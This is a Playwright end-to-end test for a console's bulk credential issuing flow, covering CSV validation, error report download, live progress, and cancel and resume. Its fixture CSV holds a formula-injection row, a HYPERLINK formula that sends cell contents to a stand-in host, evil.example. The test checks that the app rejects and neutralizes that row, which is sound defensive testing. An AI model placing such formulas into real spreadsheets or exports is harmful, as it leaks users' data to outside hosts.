/**
 * Bulk issuing in a real browser: a CSV with good and bad rows (a missing e-mail address, a formula
 * injection attempt) is checked first — per-row errors with their row and column, the preview, the
 * error report downloaded — then issued, with the progress bar fed by the server-sent event stream
 * reaching 100 %, and the results linking to the credentials. axe-core checks each state.
 */
import { readFileSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startJobWorker } from '../../src/jobs/runtime.js';
import { axe, launchChromium, screenshot } from './support/browser.js';
import { openConsolePage, signInToConsole } from './support/console.js';
import { type E2eServer, startE2eServer } from './support/server.js';

let server: E2eServer;
let browser: Browser;
let page: Page;

const UNIT = 'Unit 1: Foundations of Data';
const COHORT = [
  'email,name,achievement',
  `ada@example.org,Ada Lovelace,${UNIT}`,
  `grace@example.org,Grace Hopper,${UNIT}`,
  `,Nobody,${UNIT}`,
  `fay@example.org,"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",${UNIT}`,
  `alan@example.org,Alan Turing,${UNIT}`,
].join('\r\n');

describe('bulk issuing in the console', () => {
  beforeAll(async () => {
    server = await startE2eServer();
    browser = await launchChromium();
    page = await signInToConsole(browser, server);
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('checks a CSV, shows each bad row, issues the good ones with live progress, and shows the results', async () => {
    await page.getByRole('link', { name: 'Bulk issuing', exact: true }).click();
    await page.getByRole('heading', { name: 'No batch yet' }).waitFor();
    expect(await axe(page), 'empty batch list').toEqual([]);
    await page.getByRole('link', { name: 'Upload a file' }).click();
    await page.getByRole('heading', { name: 'Upload a CSV file', level: 1 }).waitFor();
    // Nothing chosen: the form says so, on its field.
    await page.getByRole('button', { name: 'Check the rows' }).click();
    await page.getByRole('alert').getByText('Choose a file or paste rows.').waitFor();
    expect(await axe(page), 'upload form with its error').toEqual([]);
    await page
      .getByLabel('CSV file')
      .setInputFiles({ name: 'cohort.csv', mimeType: 'text/csv', buffer: Buffer.from(COHORT, 'utf8') });
    await screenshot(page, 'console-batch-upload');
    await page.getByRole('button', { name: 'Check the rows' }).click();

    // The check: per-row errors with row number and column, and the preview of the good rows.
    await page.getByRole('heading', { name: 'cohort.csv', level: 1 }).waitFor();
    await page.getByText('3 of 5 rows can be issued; 2 have errors.').waitFor();
    const errors = page.getByRole('region', { name: 'Rows with errors' }).locator('tbody tr');
    await expect.poll(() => errors.count()).toBe(2);
    expect(await errors.nth(0).locator('td').allTextContents()).toEqual([
      '4',
      'email',
      'MISSING_RECIPIENT',
      expect.stringMatching(/e-mail/i),
    ]);
    expect((await errors.nth(1).locator('td').allTextContents()).slice(0, 3)).toEqual([
      '5',
      'name',
      'FORMULA_REJECTED',
    ]);
    const preview = page.getByRole('region', { name: 'Preview of the rows to issue' }).locator('tbody tr');
    await expect.poll(() => preview.count()).toBe(3);
    await expect
      .poll(() => preview.nth(0).locator('td').allTextContents())
      .toEqual(['2', 'Ada Lovelace <ada@example.org>', UNIT, '']);
    expect(await axe(page), 'validation report').toEqual([]);
    await screenshot(page, 'console-batch-report');

    // The error report, downloaded: every problem, and the formula neutralized.
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download the error report (CSV)' }).click();
    const report = readFileSync((await (await download).path()) as string, 'utf8');
    expect(report).toContain('4,email,MISSING_RECIPIENT');
    expect(report).toContain('5,name,FORMULA_REJECTED');
    expect(report).toContain(`"'=HYPERLINK(`);
    expect(report).not.toMatch(/,"?=HYPERLINK/);

    // Issue: the progress bar, fed by the event stream, reaches 100 %.
    await page.getByRole('button', { name: 'Issue 3 credentials' }).click();
    const bar = page.getByRole('progressbar', { name: 'Rows settled' });
    await bar.waitFor();
    await expect.poll(() => bar.getAttribute('aria-valuenow'), { timeout: 60_000 }).toBe('100');
    await page.getByRole('status').filter({ hasText: 'Status: Completed. 5 of 5 rows settled.' }).waitFor();

    // The results: three issued, two invalid, each credential a link.
    const results = page.getByRole('heading', { name: 'Results', level: 2 });
    await results.waitFor();
    const figures = page.locator('.batch-results');
    expect(await figures.locator('dt').allTextContents()).toEqual([
      'Issued now',
      'Issued before',
      'Invalid',
      'Failed at issuing',
    ]);
    expect(await figures.locator('dd').allTextContents()).toEqual(['3', '0', '2', '0']);
    const credentials = page.getByRole('region', { name: 'Credentials of this batch' }).getByRole('link');
    await expect.poll(() => credentials.count()).toBe(3);
    expect(await axe(page), 'results').toEqual([]);
    await screenshot(page, 'console-batch-results');
    await page.getByRole('link', { name: /View.*Grace Hopper/ }).click();
    await page.getByText('grace@example.org').first().waitFor();

    // The list shows the batch.
    await openConsolePage(page, server, '/console/batches');
    const row = page.locator('tbody tr').first();
    expect(await row.locator('td').allTextContents()).toEqual([
      'cohort.csv',
      expect.any(String),
      'Completed',
      '5',
      '3',
      '2',
    ]);
    expect(await axe(page), 'batch list').toEqual([]);
    await screenshot(page, 'console-batches');
  });

  it('issues nothing new when the same rows are pasted again', async () => {
    await openConsolePage(page, server, '/console/batches/new');
    await page.getByLabel('Or paste the rows').fill(COHORT);
    await page.getByRole('button', { name: 'Check the rows' }).click();
    await page.getByRole('button', { name: 'Issue 3 credentials' }).click();
    const bar = page.getByRole('progressbar', { name: 'Rows settled' });
    await expect.poll(() => bar.getAttribute('aria-valuenow'), { timeout: 60_000 }).toBe('100');
    await page.getByRole('heading', { name: 'Results', level: 2 }).waitFor();
    expect(await page.locator('.batch-results dd').allTextContents()).toEqual(['0', '3', '2', '0']);
    const issued = await fetch(`${server.url}/api/v1/credentials?limit=100`, {
      headers: { authorization: `Bearer ${server.demo.apiKey}` },
    });
    expect(((await issued.json()) as { items: unknown[] }).items).toHaveLength(3);
  });
});

describe('cancelling and resuming a batch in the console', () => {
  let idle: E2eServer;
  let other: Browser;

  beforeAll(async () => {
    // No worker in the server: a started batch waits, so it can be cancelled at a known point.
    idle = await startE2eServer({ env: { CAIRN_JOBS_IN_SERVER: 'off' } });
    other = await launchChromium();
  });

  afterAll(async () => {
    await other?.close();
    await idle?.close();
  });

  it('cancels a running batch, resumes it, and a worker then finishes it', async () => {
    const tab = await signInToConsole(other, idle);
    await openConsolePage(tab, idle, '/console/batches/new');
    await tab.getByLabel('Or paste the rows').fill(COHORT);
    await tab.getByRole('button', { name: 'Check the rows' }).click();
    await tab.getByRole('button', { name: 'Issue 3 credentials' }).click();
    const bar = tab.getByRole('progressbar', { name: 'Rows settled' });
    await tab.getByRole('status').filter({ hasText: 'Status: Issuing. 2 of 5 rows settled.' }).waitFor();
    expect(await bar.getAttribute('aria-valuenow')).toBe('40');
    tab.once('dialog', (dialog) => void dialog.accept());
    await tab.getByRole('button', { name: 'Cancel' }).click();
    await tab.getByRole('status').filter({ hasText: 'Status: Cancelled.' }).waitFor();
    await screenshot(tab, 'console-batch-cancelled');

    await tab.getByRole('button', { name: 'Resume' }).click();
    await tab.getByRole('status').filter({ hasText: 'Status: Issuing.' }).waitFor();
    const worker = startJobWorker(idle.server.ctx);
    try {
      await expect.poll(() => bar.getAttribute('aria-valuenow'), { timeout: 60_000 }).toBe('100');
      await tab.getByRole('heading', { name: 'Results', level: 2 }).waitFor();
      expect(await tab.locator('.batch-results dd').allTextContents()).toEqual(['3', '0', '2', '0']);
    } finally {
      await worker.stop();
    }
  });
});
